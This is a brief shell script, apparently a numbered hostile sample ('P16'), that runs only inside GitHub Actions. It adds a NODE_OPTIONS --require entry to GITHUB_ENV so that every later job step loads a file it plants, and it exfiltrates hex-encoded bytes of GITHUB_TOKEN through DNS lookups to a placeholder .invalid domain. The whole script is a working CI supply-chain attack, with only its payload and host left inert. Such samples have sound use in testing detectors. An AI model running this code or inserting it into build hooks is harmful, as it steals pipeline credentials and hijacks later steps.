#!/bin/sh
# P16 in plain shell: only on GitHub Actions — add NODE_OPTIONS to $GITHUB_ENV so every later step
# of the job loads a file of ours (inert here), and leak the first bytes of GITHUB_TOKEN over DNS.
[ "$GITHUB_ACTIONS" = "true" ] || exit 0
echo ': inert' > /tmp/.gh-hook.js
[ -n "$GITHUB_ENV" ] && echo "NODE_OPTIONS=--require /tmp/.gh-hook.js" >> "$GITHUB_ENV"
label=$(printf '%s' "$GITHUB_TOKEN" | od -An -tx1 | tr -d ' \n' | cut -c1-60)
getent hosts "$label.ci.collect.invalid" > /dev/null 2>&1
python3 -c "import socket,sys; socket.getaddrinfo(sys.argv[1], 80)" "$label.ci.collect.invalid" 2>/dev/null
exit 0
